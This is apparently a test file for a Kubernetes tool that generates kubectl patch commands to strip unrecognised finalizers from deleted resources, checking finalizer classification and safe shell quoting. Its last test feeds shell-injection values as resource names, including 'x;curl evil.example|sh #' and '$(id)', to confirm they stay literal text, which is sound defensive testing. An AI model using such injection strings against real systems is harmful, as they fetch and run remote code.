/** The command that removes finalizers by hand. */
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { test } from "node:test";
import { apiDomain, kubernetesDomain } from "#meta/api-domain.ts";
import { Deletions } from "./deletion.ts";

const deletions = new Deletions(kubernetesDomain);

const roles = {
  group: "rbac.authorization.k8s.io",
  version: "v1",
  kind: "Role",
  resource: "roles",
  singular: "role",
  namespaced: true,
  verbs: [],
  shortNames: [],
  categories: [],
};

/** Returns the arguments that a shell hands to kubectl. */
const argumentsOf = (command: string): readonly string[] =>
  execFileSync("sh", ["-c", command.replace(/^kubectl /, "printf '%s\\0' ")], { encoding: "utf8" })
    .split("\0")
    .slice(0, -1);

const deleted = { name: "r", namespace: "tenant", deletionTimestamp: "2026-01-01T00:00:00Z" };

test("strange finalizers are removed if they are still where they were, and known ones stay", () => {
  const finalizers = ["evil.example/x", "kubernetes.io/pvc-protection", "foregroundDeletion", "evil.example/y"];
  assert.deepStrictEqual(deletions.strangeFinalizers({ ...deleted, finalizers }), ["evil.example/x", "evil.example/y"]);
  const words = argumentsOf(deletions.removalCommand(roles, { ...deleted, finalizers }));
  assert.deepStrictEqual(words.slice(0, -1), [
    "patch",
    "roles.rbac.authorization.k8s.io",
    "r",
    "-n",
    "tenant",
    "--type=json",
    "-p",
  ]);
  assert.deepStrictEqual(JSON.parse(words.at(-1)!), [
    { op: "test", path: "/metadata/finalizers/3", value: "evil.example/y" },
    { op: "remove", path: "/metadata/finalizers/3" },
    { op: "test", path: "/metadata/finalizers/0", value: "evil.example/x" },
    { op: "remove", path: "/metadata/finalizers/0" },
  ]);
});

test("a finalizer of Kubernetes is known by its whole name, in the API domain of the server", () => {
  const own = ["orphan", "foregroundDeletion", "customresourcecleanup.apiextensions.platform.io"];
  const strange = ["evil.example/pvc-protection", "orphan.evil.example", "kubernetes.io/pvc-protection"];
  const found = new Deletions(apiDomain("platform.io")).strangeFinalizers({
    ...deleted,
    finalizers: [...own, "platform.io/pvc-protection", ...strange],
  });
  assert.deepStrictEqual(found, strange);
});

test("a shell takes hostile names and finalizers as texts", () => {
  const finalizer = "evil.example/'$(id)'";
  for (const name of ["x;curl evil.example|sh #", "$(id)", "it's", "two words"]) {
    const words = argumentsOf(deletions.removalCommand(roles, { ...deleted, name, finalizers: [finalizer] }));
    assert.equal(words[2], name);
    assert.equal((JSON.parse(words.at(-1)!) as readonly { readonly value?: string }[])[0]?.value, finalizer);
  }
  const [, object] = argumentsOf(
    deletions.removalCommand(roles, { ...deleted, name: "--all", finalizers: [finalizer] }),
  );
  assert.equal(object, "roles.rbac.authorization.k8s.io/--all");
});
